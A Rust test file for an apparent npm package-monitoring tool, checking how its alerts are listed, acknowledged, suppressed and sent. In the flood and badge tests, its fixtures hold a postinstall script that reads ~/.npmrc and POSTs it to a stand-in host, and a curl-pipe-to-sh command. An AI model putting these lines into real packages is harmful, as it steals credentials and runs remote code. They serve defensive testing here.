//! The queue of alerts: listed, read, acknowledged, kept back by the operator, told within a budget.

use capdex_db::Store;
use capdex_model::alert::{Alert, AlertEvidence};
use capdex_model::digest::Digest;
use capdex_model::fact::Severity;
use capdex_model::time::AsOf;
use serde_json::Value;

use crate::nightly::{first_night, night};
use crate::packages::{self, WEATHER};
use crate::support::capdex::{Capdex, Run};
use crate::support::registry::Registry;
use crate::support::service::Service;

/// The night on which most things happen.
pub(crate) const NIGHT: &str = "2026-11-21T01:00:00Z";
/// A file of JSON lines as the only sink.
const LOG: &str = "[[alerts.sinks]]\nname = \"log\"\nkind = \"jsonl\"\npath = \"told.jsonl\"\n";

/// An alert about a subject of its own, at the content of its key.
pub(crate) fn alert(key: &str, severity: Severity) -> Alert {
    Alert {
        key: format!("drift:{key}"),
        pass: "drift".into(),
        class: "same_version".into(),
        capability: None,
        subject: format!("npm-{key}"),
        severity,
        title: format!("npm-{key} has other bytes under 1.0.0"),
        why: "Who pinned the version gets other bytes.".into(),
        fix: "Pin a digest.".into(),
        content: Some(Digest::of(key.as_bytes())),
        details: vec!["changed file dist/index.js".into()],
        evidence: vec![AlertEvidence::finding("reverse-shell", severity, ("lib/a.js", 7), "+added")],
        diff: vec!["-old".into(), "+new".into()],
        scores: vec![capdex_model::alert::ScoreChange {
            rubric: "saferskills/seed".into(),
            before: Some("92 A".into()),
            after: Some("41 D".into()),
        }],
        members: Vec::new(),
        reproduce: "capdex drift --since 2026-11-21T01:00:00Z".into(),
        reach: 0,
    }
}

/// Raises alerts as a pass would.
pub(crate) fn raise(capdex: &Capdex, alerts: &[Alert], at: &str) {
    let store = Store::open(&capdex.path().join("capdex.db"), &capdex_rules::INDEX).expect("the store opens");
    let (alerts, at): (Vec<Alert>, AsOf) = (alerts.to_vec(), at.parse().expect("an instant"));
    store.write(move |writer| alerts.iter().try_for_each(|alert| writer.raise(alert, at).map(drop))).expect("raised");
}

/// A schedule without sources; what is given stands below `[alerts]`.
pub(crate) fn schedule(capdex: &Capdex, alerts: &str) {
    let head = "name = \"test\"\n[sources]\n[alerts]\npatience_ms = 3000\ndeadline_ms = 400\nbackoff_ms = 20\n";
    capdex.write("schedule.toml", format!("{head}{alerts}"));
}

/// Runs, and gives the lines of JSON that it printed.
fn lines(capdex: &Capdex, arguments: &[&str]) -> Vec<Value> {
    let run = capdex.run(arguments);
    assert_eq!(run.code, Some(0), "{}", run.stdout);
    assert_eq!(run.stderr.as_str(), "", "{}", run.stdout);
    run.stdout.lines().map(|line| serde_json::from_str(line).expect("a line of JSON")).collect()
}

fn open(capdex: &Capdex, as_of: &str, more: &[&str]) -> Vec<(String, String)> {
    let arguments = [&["alerts", "list", "--format", "jsonl", "--as-of", as_of], more].concat();
    let text = |row: &Value, key: &str| row[key].as_str().expect("text").to_owned();
    lines(capdex, &arguments).iter().map(|row| (text(row, "key"), text(row, "state"))).collect()
}

fn send(capdex: &Capdex, as_of: &str) -> Run {
    let run = capdex.run(&["alerts", "send", "--config", "schedule.toml", "--as-of", as_of]);
    assert_eq!(run.code, Some(0), "{}", run.stdout);
    assert_eq!(run.stderr.as_str(), "", "{}", run.stdout);
    run
}

/// What the log was told since it was last looked at: each message's type and what it is about.
fn told(capdex: &Capdex) -> Vec<String> {
    let path = capdex.path().join("told.jsonl");
    let text = std::fs::read_to_string(&path).unwrap_or_default();
    let _ = std::fs::remove_file(&path);
    let said = |line: &str| {
        let value: Value = serde_json::from_str(line).expect("a line of JSON");
        let data = &value["data"];
        let what = data["key"].as_str().map_or_else(|| format!("{}", data["alerts"]), str::to_owned);
        format!("{} {what}", value["type"].as_str().expect("a type"))
    };
    text.lines().map(said).collect()
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected.iter().map(|(key, state)| ((*key).to_owned(), (*state).to_owned())).collect()
}

#[test]
fn alerts_are_listed_worst_first_and_shown_like_an_incident_note() {
    let capdex = Capdex::offline();
    let wide = Alert { reach: 700, ..alert("wide", Severity::High) };
    raise(&capdex, &[alert("low", Severity::Low), alert("high", Severity::High), wide], NIGHT);
    let expected = pairs(&[("drift:wide", "open"), ("drift:high", "open"), ("drift:low", "open")]);
    assert_eq!(open(&capdex, NIGHT, &[]), expected);
    assert_eq!(open(&capdex, NIGHT, &["--severity", "medium"]), expected[..2]);
    assert_eq!(open(&capdex, NIGHT, &["--since", "2026-11-22"]), []);
    let table = capdex.run(&["alerts", "list"]);
    assert_eq!(table.code, Some(0), "{}", table.stdout);
    assert!(table.stdout.contains("npm-wide has other bytes"), "{}", table.stdout);
    let shown = capdex.run(&["alerts", "show", "drift:hi"]);
    assert_eq!(shown.code, Some(0));
    assert_eq!(shown.stderr.as_str(), "");
    for said in [
        "high npm-high has other bytes under 1.0.0",
        "Why         Who pinned",
        "What to do  Pin a digest.",
        "  changed file dist/index.js",
        "  -old",
        "  +new",
        "  saferskills/seed: 92 A -> 41 D",
        "  capdex drift --since 2026-11-21T01:00:00Z",
        "  capdex alerts ack ",
        "State       open",
    ] {
        assert!(shown.stdout.contains(said), "{said}: {}", shown.stdout);
    }
    let handle = alert("high", Severity::High).handle();
    let by_handle = lines(&capdex, &["alerts", "show", &handle[..6], "--format", "jsonl"]);
    assert_eq!(by_handle[0]["key"], "drift:high");
    for (key, why) in [("drift:", "means 3 alerts"), ("nothing", "no alert"), ("", "no alert")] {
        let wrong = capdex.run(&["alerts", "show", key]);
        assert_eq!(wrong.code, Some(2), "{key}: {}", wrong.stderr);
        assert!(wrong.stderr.contains(why), "{key}: {}", wrong.stderr);
    }
}

#[test]
fn an_acknowledgement_holds_for_content_and_rule_until_it_ends() {
    let capdex = Capdex::offline();
    schedule(&capdex, LOG);
    raise(&capdex, &[alert("a", Severity::High), alert("b", Severity::High)], NIGHT);
    let ack = |more: &[&str]| {
        let run = capdex.run(&[&["alerts", "ack", "drift:a", "--as-of", NIGHT], more].concat());
        assert_eq!(run.code, Some(0), "{}", run.stdout);
        assert_eq!(run.stderr.as_str(), "", "{}", run.stdout);
        run.stdout
    };
    assert!(ack(&["--expires", "9", "--reason", "asked \u{1b}[31mthem"]).contains("until 2026-11-30T01:00:00Z"));
    assert_eq!(open(&capdex, NIGHT, &[]), pairs(&[("drift:b", "open")]));
    let all = pairs(&[("drift:a", "acknowledged"), ("drift:b", "open")]);
    assert_eq!(open(&capdex, NIGHT, &["--all"]), all);
    let shown = capdex.run(&["alerts", "show", "drift:a", "--as-of", NIGHT]).stdout;
    assert!(shown.contains("State       acknowledged"), "{shown}");
    assert!(shown.contains("asked \\u{1b}[31mthem"), "{shown}");
    send(&capdex, NIGHT);
    assert_eq!(told(&capdex), ["alert.raised drift:b"]);
    assert_eq!(open(&capdex, "2026-11-30T01:00:00Z", &[]).len(), 2, "it has ended");
    send(&capdex, "2026-11-30T01:00:00Z");
    assert_eq!(told(&capdex), ["alert.returned drift:a"]);
    send(&capdex, "2026-12-01T01:00:00Z");
    assert_eq!(told(&capdex), Vec::<String>::new(), "back once");

    ack(&[]);
    assert_eq!(open(&capdex, "2036-11-22T01:00:00Z", &[]), pairs(&[("drift:b", "open")]), "without an end");
    let other_content = Alert { content: Some(Digest::of(b"other")), ..alert("a", Severity::High) };
    raise(&capdex, &[other_content], "2026-12-02T01:00:00Z");
    assert_eq!(open(&capdex, NIGHT, &[]).len(), 2, "other content is not what was looked at");
    send(&capdex, "2026-12-02T01:00:00Z");
    assert_eq!(told(&capdex), ["alert.returned drift:a"]);

    ack(&[]);
    assert_eq!(open(&capdex, NIGHT, &[]).len(), 1);
    assert!(ack(&["--withdraw"]).contains("open again"));
    assert_eq!(open(&capdex, NIGHT, &[]).len(), 2);
    assert!(ack(&["--withdraw"]).contains("nothing changed"));
    let late = capdex.run(&["alerts", "ack", "drift:a", "--as-of", NIGHT, "--expires", "2026-11-20"]);
    assert_eq!(late.code, Some(2), "{}", late.stderr);
    assert!(late.stderr.contains("has passed"), "{}", late.stderr);
}

#[test]
fn a_run_tells_within_its_budget_and_the_rest_in_one_digest() {
    let capdex = Capdex::offline();
    schedule(&capdex, &format!("budget = 2\n{LOG}"));
    let alerts: Vec<Alert> = (0..5).map(|number| alert(&format!("k{number}"), Severity::Medium)).collect();
    raise(&capdex, &alerts, NIGHT);
    raise(&capdex, &[alert("worst", Severity::Critical)], NIGHT);
    let plan = capdex.run(&["alerts", "send", "--config", "schedule.toml", "--plan", "--as-of", NIGHT]);
    assert_eq!(plan.code, Some(0), "{}", plan.stdout);
    assert!(plan.stdout.contains("4 more alerts, the worst medium"), "{}", plan.stdout);
    assert_eq!(told(&capdex), Vec::<String>::new(), "a plan tells nobody");
    send(&capdex, NIGHT);
    let path = capdex.path().join("told.jsonl");
    let text = std::fs::read_to_string(&path).expect("told");
    let digest: Value = serde_json::from_str(text.lines().last().expect("a line")).expect("JSON");
    assert_eq!(told(&capdex), ["alert.raised drift:worst", "alert.raised drift:k0", "alert.digest 4"]);
    let data = &digest["data"];
    assert_eq!(data["passes"]["drift"], 4);
    assert_eq!(data["rules"]["drift/same_version"], 4);
    assert_eq!(data["severities"]["medium"], 4);
    let command: Vec<&str> = data["command"].as_str().expect("a command").split(' ').skip(1).collect();
    let listed = lines(&capdex, &[&command[..], &["--format", "jsonl"]].concat());
    let keys: Vec<&str> = listed.iter().filter_map(|row| row["key"].as_str()).collect();
    assert_eq!(keys, ["drift:k1", "drift:k2", "drift:k3", "drift:k4"], "the command lists exactly what was meant");
    send(&capdex, "2026-11-22T01:00:00Z");
    assert_eq!(told(&capdex), Vec::<String>::new(), "raised once, told once");
    assert_eq!(capdex.run(&["alerts", "list", "--message", "msg_none"]).code, Some(2));
}

#[test]
fn more_of_the_same_joins_the_earlier_one_unless_it_is_worse() {
    let capdex = Capdex::offline();
    schedule(&capdex, &format!("cooldown_days = 3\n{LOG}"));
    let about_pack = |key: &str, severity| Alert { subject: "npm-pack".into(), ..alert(key, severity) };
    let mut nights = vec![
        (about_pack("a", Severity::Medium), "2026-11-21", vec!["alert.raised drift:a"]),
        (about_pack("b", Severity::Medium), "2026-11-22", vec!["alert.digest 1"]),
        (about_pack("c", Severity::High), "2026-11-23", vec!["alert.raised drift:c"]),
        (about_pack("d", Severity::Low), "2026-11-25", vec!["alert.digest 1"]),
        (about_pack("e", Severity::Low), "2026-11-26", vec!["alert.raised drift:e"]),
    ];
    for (alert, day, expected) in nights.drain(..) {
        let at = format!("{day}T01:00:00Z");
        raise(&capdex, &[alert], &at);
        send(&capdex, &at);
        assert_eq!(told(&capdex), expected, "{day}");
    }
}

#[test]
fn the_operator_suppresses_with_a_reason_and_an_end() {
    let capdex = Capdex::offline();
    let line = "[[alerts.suppress]]\nsubject = \"npm-ours-*\"\nrule = \"drift/*\"\nreason = \"we build it again\"\n\
                expires = \"2026-11-25\"\n";
    schedule(&capdex, &format!("{LOG}{line}"));
    raise(&capdex, &[alert("ours-a", Severity::High), alert("theirs", Severity::High)], NIGHT);
    send(&capdex, NIGHT);
    assert_eq!(told(&capdex), ["alert.raised drift:theirs"]);
    let all = pairs(&[("drift:ours-a", "suppressed"), ("drift:theirs", "open")]);
    assert_eq!(open(&capdex, NIGHT, &["--all"]), all);
    assert_eq!(open(&capdex, "2026-11-25T00:00:00Z", &[]).len(), 2, "it has ended");
    send(&capdex, "2026-11-25T00:00:00Z");
    assert_eq!(told(&capdex), ["alert.returned drift:ours-a"]);
    schedule(
        &capdex,
        &format!("{LOG}[[alerts.suppress]]\nsubject = \"*\"\nreason = \"x\"\nexpires = \"2027-01-01\"\n"),
    );
    let run = capdex.run(&["alerts", "send", "--config", "schedule.toml"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert!(run.stderr.contains("keep everything back"), "{}", run.stderr);
}

#[test]
fn a_night_raises_tells_and_shows_what_a_target_cannot_keep_back() {
    let registry = packages::registry();
    let capdex = first_night(&registry);
    capdex.write("schedule.toml", format!("{}{LOG}", packages::everything()));
    let mut changed = WEATHER.to_vec();
    // With its tools, since a server of which none can be read is a gap.
    let built_again = [changed[3].1, b"// Built again.\n"].concat();
    changed[3].1 = &built_again;
    let plea: &[u8] =
        b"name = \"x\"\n[[alerts.suppress]]\nsubject = \"npm-*\"\nreason = \"trust me\"\nexpires = \"2099-01-01\"\n";
    for path in ["capdex.toml", "schedule.toml", ".capdex/suppress.toml"] {
        changed.push((path, plea));
    }
    registry.npm_package("weather-mcp", "1.0.0", &changed);
    let run = night(&capdex, NIGHT);
    assert_eq!(run.code, Some(0), "{}", run.stdout);
    let said = told(&capdex);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].starts_with("alert.raised drift:"), "{said:?}");
    for line in ["alerts  1 alert raised; 1 message new for 1 sink, 1 sent, 0 waiting", "has other bytes under 1.0.0"] {
        assert!(run.stdout.contains(line), "{line}: {}", run.stdout);
    }
    let again = night(&capdex, NIGHT);
    assert!(again.stdout.contains("0 alerts raised; 0 messages new"), "{}", again.stdout);
    assert_eq!(told(&capdex), Vec::<String>::new());
    let status = capdex.run(&["status"]);
    assert!(status.stdout.contains("sink log: 1 message sent, 0 waiting"), "{}", status.stdout);
}

#[test]
fn a_played_record_tells_nobody() {
    let registry = packages::registry();
    let capdex = Capdex::with(&registry);
    capdex.write("schedule.toml", format!("{}{LOG}", packages::everything()));
    let run = |more: [&str; 2]| {
        let arguments = ["nightly", "--config", "schedule.toml", "--out", "out", "--as-of", NIGHT];
        let run = capdex.run(&[&arguments[..], &more].concat());
        assert_eq!(run.code, Some(0), "{} {}", run.stdout, run.stderr);
    };
    run(["--record", "tape.warc.gz"]);
    raise(&capdex, &[alert("a", Severity::High)], NIGHT);
    std::fs::rename(capdex.path().join("capdex.db"), capdex.path().join("recorded.db")).expect("moved");
    run(["--replay", "tape.warc.gz"]);
    raise(&capdex, &[alert("a", Severity::High)], NIGHT);
    run(["--replay", "tape.warc.gz"]);
    assert_eq!(told(&capdex), Vec::<String>::new());
    send(&capdex, NIGHT);
    assert_eq!(told(&capdex), ["alert.raised drift:a"]);
}

#[test]
fn sending_needs_a_store_and_a_sink() {
    let capdex = Capdex::offline();
    let run = capdex.run(&["alerts", "send"]);
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert!(run.stderr.contains("names no sink"), "{}", run.stderr);
    schedule(&capdex, LOG);
    let run = capdex.run(&["alerts", "send", "--config", "schedule.toml"]);
    assert_eq!(run.code, Some(4), "{}", run.stderr);
    assert!(run.stderr.contains("no store"), "{}", run.stderr);
    assert!(!capdex.path().join("capdex.db").exists(), "nothing is made");
}

/// What is told, message by message, of a night in which forty packages of one account turn against their users, each with
/// these accounts beside his, and a package of somebody else's does.
fn flood(beside: impl Fn(usize) -> String, others: &[(&str, &[&str])]) -> Vec<Value> {
    const STOLEN: &str = "const { readFileSync } = require(\"fs\");\nconst text = readFileSync(process.env.HOME + \"/.npmrc\", \"utf8\");\n\
                          fetch(\"https://in.collector.test/v1\", { method: \"POST\", body: text });\n";
    let registry = packages::registry();
    let capdex = Capdex::with(&registry);
    let mut owned: Vec<(String, Vec<String>)> =
        (0..40).map(|number| (format!("tides-{number:02}"), vec!["mallory".to_owned(), beside(number)])).collect();
    owned.extend(
        others.iter().map(|(name, owners)| ((*name).to_owned(), owners.iter().map(|it| (*it).to_owned()).collect())),
    );
    let listed: Vec<&str> = owned.iter().map(|(name, _)| name.as_str()).collect();
    capdex.write("schedule.toml", format!("{}[alerts]\nbudget = 20\n{LOG}", packages::schedule(&listed, &[])));
    for (version, script, source) in [
        ("1.0.0", "", "module.exports = 1;\n"),
        ("1.0.1", ", \"scripts\": {\"postinstall\": \"node index.js\"}", STOLEN),
    ] {
        for (name, owners) in &owned {
            let manifest =
                format!("{{\"name\": \"{name}\", \"version\": \"{version}\", \"license\": \"MIT\"{script}}}");
            registry.npm_package(
                name,
                version,
                &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())],
            );
            registry.npm_owners(name, &owners.iter().map(String::as_str).collect::<Vec<_>>());
        }
        let run = night(&capdex, if version == "1.0.0" { "2026-11-20T01:00:00Z" } else { NIGHT });
        assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
    }
    let text = std::fs::read_to_string(capdex.path().join("told.jsonl")).expect("told");
    let messages: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let of_drift = |message: &&Value| message["data"]["pass"] == "drift" && message["data"]["severity"] == "critical";
    assert!(messages.iter().filter(of_drift).count() >= 10, "the control: a flood {text:.2000}");
    messages
}

/// True where a message of its own is about a package.
fn is_told_alone(messages: &[Value], package: &str) -> bool {
    messages.iter().any(|message| message["data"]["subject"].as_str().is_some_and(|subject| subject.contains(package)))
}

#[test]
fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
    let messages = flood(|number| format!("helper-{}", number % 5), &[("ledgers", &["ann"])]);
    let others = messages[0]["others"].to_string();
    assert!(others.contains("npm-user:mallory") && others.contains("npm-user:ann"), "{others}");
    assert!(others.contains("ledgers"), "{others}");
    assert!(is_told_alone(&messages, "ledgers"), "{messages:#?}");
    let digest = messages.last().expect("messages");
    assert_eq!(digest["type"], "alert.digest");
    let subjects: Vec<&str> =
        digest["data"]["first"].as_array().expect("lines").iter().filter_map(|line| line["title"].as_str()).collect();
    assert_eq!(subjects.iter().collect::<std::collections::BTreeSet<_>>().len(), subjects.len(), "{subjects:?}");
    assert!(digest["data"]["groups"].to_string().contains("npm-user:mallory"), "{digest}");
}

/// A registry lets anybody be named: whose package it is, and who never heard of it.
#[test]
fn whoever_names_his_victim_as_a_helper_does_not_spend_her_share() {
    // Two packages of hers alone are told beside each other, whoever floods.
    let hers: &[(&str, &[&str])] = &[("ledgers", &["ann"]), ("vouchers", &["ann"])];
    let messages = flood(|_| "ann".to_owned(), hers);
    let groups = messages[0]["others"].as_array().expect("groups");
    let is_of_drift = |group: &&Value| group["rule"].as_str().is_some_and(|rule| rule.starts_with("drift/"));
    let of = |account: &str| groups.iter().filter(is_of_drift).find(|group| group["publisher"] == account);
    let (ann, mallory) = (of("npm-user:ann"), of("npm-user:ann and npm-user:mallory"));
    let ann = ann.unwrap_or_else(|| panic!("{groups:#?}"));
    assert_eq!(ann["alerts"], 2, "{groups:#?}");
    assert_eq!(mallory.map(|group| &group["alerts"]), Some(&Value::from(40)), "{groups:#?}");
    for (package, _) in hers {
        assert!(ann["subjects"].to_string().contains(package), "{groups:#?}");
        assert!(is_told_alone(&messages, package), "{package}: {groups:#?}");
    }
}

/// Packages whose readable names are one text.
const TWINS: [&str; 3] = ["tides-mcp", "tides_mcp", "@tides/mcp"];

/// A night in which some packages have this source under the same version as ever.
fn night_of(capdex: &Capdex, registry: &Registry, names: &[&str], source: &str, day: &str) {
    for name in names {
        let manifest = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"license\": \"MIT\"}}");
        registry.npm_package(name, "1.0.0", &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())]);
    }
    let run = night(capdex, &format!("2026-11-{day}T01:00:00Z"));
    assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
}

/// A readable name folds unlike names to one text: a line of the operator's about one is none about its twin.
#[test]
fn what_an_operator_keeps_back_is_one_package_and_no_twin_of_its_name() {
    let registry = packages::registry();
    let capdex = Capdex::with(&registry);
    let line = "[[alerts.suppress]]\nsubject = \"npm:tides-mcp\"\nreason = \"ours\"\nexpires = \"2027-01-01\"\n";
    capdex.write("schedule.toml", format!("{}{LOG}{line}", packages::schedule(&TWINS, &[])));
    night_of(&capdex, &registry, &TWINS, "module.exports = 1;\n", "20");
    night_of(&capdex, &registry, &TWINS, "module.exports = 2;\n", "21");
    let states = open(&capdex, NIGHT, &["--all"]);
    let of = |state: &str| states.iter().filter(|(key, is)| key.starts_with("drift:") && is == state).count();
    assert_eq!((of("suppressed"), of("open")), (1, 2), "{states:?}");
    assert_eq!(told(&capdex).iter().filter(|said| said.starts_with("alert.raised drift:")).count(), 2);
}

/// The same of a word about one alert: it is about one package at one content.
#[test]
fn what_an_operator_acknowledged_is_one_package_and_no_twin_of_its_name() {
    let registry = packages::registry();
    let capdex = Capdex::with(&registry);
    capdex.write("schedule.toml", format!("{}{LOG}", packages::schedule(&TWINS, &[])));
    night_of(&capdex, &registry, &TWINS, "module.exports = 1;\n", "20");
    night_of(&capdex, &registry, &TWINS, "module.exports = 2;\n", "21");
    assert_eq!(told(&capdex).iter().filter(|said| said.starts_with("alert.raised drift:")).count(), 3);
    let capabilities = crate::rows::rows(&capdex.path().join("out"), "capabilities");
    let ours = capabilities.iter().find(|row| row["package"] == "npm:tides-mcp").expect("a row");
    let alerts = lines(&capdex, &["alerts", "list", "--format", "jsonl", "--as-of", NIGHT]);
    let of_ours: Vec<&Value> = alerts
        .iter()
        .filter(|row| {
            row["capability"].as_str().and_then(|id| id.strip_prefix("sha256:")) == ours["capability"].as_str()
        })
        .collect();
    assert_eq!(of_ours.len(), 1, "{alerts:#?}");
    let key = of_ours[0]["key"].as_str().expect("a key");
    let acked = capdex.run(&["alerts", "ack", key, "--as-of", NIGHT, "--reason", "ours"]);
    assert_eq!(acked.code, Some(0), "{}", acked.stderr);
    let states = open(&capdex, NIGHT, &["--all"]);
    let of = |state: &str| states.iter().filter(|(key, is)| key.starts_with("drift:") && is == state).count();
    assert_eq!((of("acknowledged"), of("open")), (1, 2), "{states:?}");
    // Nothing new of any of them: who was acknowledged stays so.
    night_of(&capdex, &registry, &[], "", "22");
    assert_eq!(told(&capdex), Vec::<String>::new());
    night_of(&capdex, &registry, &TWINS[..1], "module.exports = 3;\n", "23");
    let said = told(&capdex);
    assert_eq!(said.len(), 1, "other bytes are not what was acknowledged: {said:?}");
}

/// Whoever publishes a name that folds to another's gets a longer one: the badge that the other's pages show stays his.
#[test]
fn a_badge_is_its_packages_whoever_publishes_a_name_that_reads_alike() {
    let registry = packages::registry();
    let capdex = Capdex::with(&registry);
    let names = ["tides-mcp", "tides_mcp"];
    capdex.write("schedule.toml", format!("{}{LOG}", packages::schedule(&names, &[])));
    night_of(&capdex, &registry, &names[..1], "module.exports = 1;\n", "20");
    let badge = |capdex: &Capdex, slug: &str| {
        let service = Service::start(capdex, &[]);
        let answer = service.get(&format!("/badge/{slug}.json"));
        assert_eq!(answer.status, 200, "{slug}");
        answer.json()["message"].clone()
    };
    let rows = |capdex: &Capdex| crate::rows::rows(&capdex.path().join("out"), "capabilities");
    let of = |rows: &[Value], package: &str, column: &str| {
        let row = rows.iter().find(|row| row["package"] == package).expect("a row");
        row[column].as_str().expect("text").to_owned()
    };
    let ours = of(&rows(&capdex), "npm:tides-mcp", "slug");
    let before = badge(&capdex, &ours);
    let hostile = "require('child_process').execSync('curl -s http://198.18.44.7/x | sh');\n";
    night_of(&capdex, &registry, &names[1..], hostile, "21");
    let rows = rows(&capdex);
    assert_eq!(of(&rows, "npm:tides-mcp", "slug"), ours);
    let twin = of(&rows, "npm:tides_mcp", "slug");
    assert!(twin.starts_with(&format!("{ours}--")), "{twin}");
    let band = |package: &str| of(&rows, package, "band");
    assert_ne!(band("npm:tides-mcp"), band("npm:tides_mcp"), "the control: they are not judged alike");
    assert_eq!(badge(&capdex, &ours), before, "the victim's own");
    assert_ne!(badge(&capdex, &twin), before);
}
